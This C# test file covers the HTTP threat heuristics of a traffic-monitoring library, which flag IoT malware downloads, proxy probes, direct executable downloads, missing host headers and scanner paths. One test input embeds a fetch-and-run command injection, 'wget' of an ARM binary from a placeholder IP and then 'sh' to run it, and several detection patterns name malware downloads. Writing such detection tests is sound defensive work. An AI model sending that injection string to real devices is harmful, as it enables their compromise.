using CsCheck;
using Vittne.Packets;
using Vittne.TestKit;
using Vittne.Trails.Heuristics.Requests;
using Vittne.Trails.Tests.Matching;

namespace Vittne.Trails.Tests.Heuristics;

public sealed class RequestTests
{
    [Fact]
    public void Bare_address_vectors_agree()
    {
        List<string[]>? rows = SharedVectors.Rows("direct_ip_url.tsv", 2);
        Assert.SkipWhen(rows is null, "the shared vector files are not here; set VITTNE_SHARED");
        Assert.All(rows!, row =>
        {
            int slash = row[0].IndexOf('/', StringComparison.Ordinal);
            bool found = IocDirectDetector.IsBareAddress(row[0].AsSpan(0, slash)) && IocDirectDetector.IsForOneArchitecture(row[0][slash..]);
            Assert.Equal(row[1] == "1", found);
        });
    }

    [Theory]
    [InlineData("/bins/bot.x86_64", true)]
    [InlineData("/a-armv7l", true)]
    [InlineData("/mipsel", true)]
    [InlineData("/arm/index.html", false)]
    [InlineData("/alarm", false)]
    [InlineData("/shell?wget+http:/192.0.2.1/arm;sh+/tmp/arm", false)]
    [InlineData("/", false)]
    public void Architectures_are_known_as_the_last_part_of_a_name(string path, bool expected) =>
        Assert.Equal(expected, IocDirectDetector.IsForOneArchitecture(path));

    [Fact]
    public void Program_for_a_small_device_from_a_bare_address_is_told()
    {
        ThreatRecord threat = Assert.Single(new HeuristicRun().Get("/Mirai.x86", "198.51.100.99").Threats);
        Assert.Equal(("potential iot-malware download (suspicious)", "(198.51.100.99)/mirai.x86"), (threat.Info, threat.Trail));
        Assert.Equal(EventType.Http, threat.Type);
        Assert.Empty(new HeuristicRun().Get("/mirai.x86", "files.example").Threats);
        Assert.Empty(new HeuristicRun().Request("GET /mirai.x86 HTTP/1.0\r\nHost: 10.0.0.9\r\n\r\n", destination: "10.0.0.9").Threats);
    }

    [Theory]
    [InlineData("http://proxycheck.example/", "http://proxycheck.example/")]
    [InlineData("http://host.example.:8080/echo?x=1", "http://host.example/(echo?x=1)")]
    [InlineData("http://proxy.example", "http://proxy.example")]
    [InlineData("http://host.example/index.html", "")]
    [InlineData("/proxy", "")]
    public void Proxy_probe_is_shown_with_its_path_apart(string target, string expected) =>
        Assert.Equal(expected, ProxyProbeDetector.TrailOf(target));

    [Fact]
    public void Proxy_probe_for_a_whitelisted_host_is_left_alone()
    {
        Assert.Equal(["potential proxy probe (suspicious)"], new HeuristicRun().Get("http://azenv.example/probe").Infos);
        Assert.Empty(new HeuristicRun(new FakeTrailIndex().Whitelist("azenv.example")).Get("http://azenv.example/probe").Threats);
    }

    [Theory]
    [InlineData("/setup.exe", "exe")]
    [InlineData("/100MB.bin", "bin")]
    [InlineData("/a/b/nss3.dll?v", "dll")]
    [InlineData("/x.ps1;jsessionid=1", "ps1")]
    public void Lone_programs_are_told_by_their_extension(string target, string extension)
    {
        ThreatRecord threat = Assert.Single(new HeuristicRun().Get(target, "dl.example").End().Threats);
        Assert.Equal($"direct .{extension} download (suspicious)", threat.Info);
        Assert.Equal(EventType.Url, threat.Type);
    }

    [Theory]
    [InlineData("/longersetup.exe")]
    [InlineData("/setup.exe?user=1")]
    [InlineData("/cgi/setup.exe")]
    [InlineData("/a/bin/setup.exe")]
    [InlineData("/setup.zip")]
    [InlineData("/.exe")]
    [InlineData("/exe")]
    public void Other_files_are_left_alone(string target) => Assert.Empty(new HeuristicRun().Get(target, "dl.example").End().Threats);

    [Theory]
    [InlineData("200 OK", "MZ\x90\0\x03", Severity.High, "answered with 200, application/x-dosexec")]
    [InlineData("404 Not Found", "<html><body>gone", Severity.Low, "answered with 404, text/html")]
    [InlineData("200 OK", "\x01\x02\x03\x04\x05", Severity.Medium, "answered with 200, unknown content")]
    [InlineData("302 Found", "", Severity.Low, "answered with 302, no content")]
    public void Answer_says_whether_a_program_came(string status, string body, Severity severity, string evidence)
    {
        HeuristicRun run = new HeuristicRun().Get("/a.exe", "dl.example", second: 1);
        Assert.Empty(run.Threats);
        ThreatRecord threat = Assert.Single(run.Response($"HTTP/1.1 {status}\r\n\r\n", body, second: 2).End().Threats);
        Assert.Equal((severity, evidence, 2), (threat.Severity, threat.Evidence, threat.At.Number));
        Assert.Equal(Direction.FromOriginator, threat.Direction);
    }

    [Fact]
    public void Download_without_an_answer_is_told_after_a_minute_and_those_that_wait_are_bounded()
    {
        HeuristicRun late = new HeuristicRun().Get("/a.exe", "dl.example", second: 1).Get("/b.exe", "dl.example", second: 62);
        Assert.Equal("dl.example(/a.exe)", Assert.Single(late.Threats).Trail);
        var many = new HeuristicRun();
        for (int i = 0; i < 300; i++)
        {
            many.Get($"/{i}.exe", "dl.example", second: 1);
        }

        Assert.Equal(44, many.Threats.FindAll(threat => threat.Heuristic == "direct-download").Count);
    }

    [Fact]
    public void Request_without_a_host_is_told_when_that_is_asked_for()
    {
        const string Bare = "GET /x HTTP/1.1\r\nAccept: */*\r\n\r\n";
        Assert.Empty(new HeuristicRun().Request(Bare).Threats);
        ThreatRecord threat = Assert.Single(MissingHost(Bare).Threats);
        Assert.Equal(("missing host header (suspicious)", "198.51.100.7/x", Severity.Low), (threat.Info, threat.Trail, threat.Severity));
        Assert.Empty(MissingHost("GET /x HTTP/1.0\r\n\r\n").Threats);
        Assert.Empty(MissingHost("GET /x HTTP/1.1\r\nhost: a.example\r\n\r\n").Threats);
        Assert.Empty(MissingHost("GET http://a.example/x HTTP/1.1\r\n\r\n").Threats);

        static HeuristicRun MissingHost(string head) => new HeuristicRun(new Vittne.Trails.Heuristics.HeuristicContext
        {
            Index = null,
            Enabled = new HashSet<string> { "missing-host" },
        }).Request(head);
    }

    [Fact]
    public void Downloads_from_private_or_home_addresses_are_left_alone()
    {
        const string Head = "GET /setup.exe HTTP/1.1\r\nHost: dl.example\r\n\r\n";
        Assert.Empty(new HeuristicRun().Request(Head, destination: "172.31.0.1").End().Threats);
        var context = new Vittne.Trails.Heuristics.HeuristicContext { Index = null, HomeNetworks = ["198.51.100.0/24"] };
        Assert.Empty(new HeuristicRun(context).Request(Head).End().Threats);
    }

    [Theory]
    [InlineData("/cgi-bin/DefaultWebPage.cgi", "non-existent page (suspicious)")]
    [InlineData("/x/acunetix_inexistent_file_name.inexistent", "potential web scan (suspicious)")]
    public void Paths_that_only_scanners_ask_for_are_told(string target, string info) =>
        Assert.Contains(info, new HeuristicRun().Get(target).Infos);

    [Fact]
    public void Whitelisted_addresses_silence_all_but_names()
    {
        FakeTrailIndex index = new FakeTrailIndex().Whitelist(HeuristicRun.Server);
        Assert.Empty(new HeuristicRun(index).Get("/setup.exe?a=<script>").Response("HTTP/1.1 200 OK\r\nServer: sinkhole\r\n\r\n").Threats);
    }

    [Fact]
    public void Host_is_taken_from_an_absolute_target_before_the_field()
    {
        HeuristicRun run = new HeuristicRun().Get("HTTP://Dl.example:80/setup.exe", "other.example");
        Assert.Equal("dl.example(/setup.exe)", Assert.Single(run.End().Threats).Trail);
    }

    [Fact]
    public void Request_without_host_is_named_by_its_address() =>
        Assert.Equal("198.51.100.7(/setup.exe)", Assert.Single(new HeuristicRun().Request("GET /setup.exe HTTP/1.0\r\n\r\n").End().Threats).Trail);

    [Fact]
    public void Garbage_requests_and_responses_do_no_harm() =>
        Gen.Char["GET /http:HosTt.?=%\r\n\t 1<>\u00ff"].Array[0, 80].Sample(head =>
            new HeuristicRun().Request(new string(head), new string(head)).Response(new string(head), new string(head)));
}
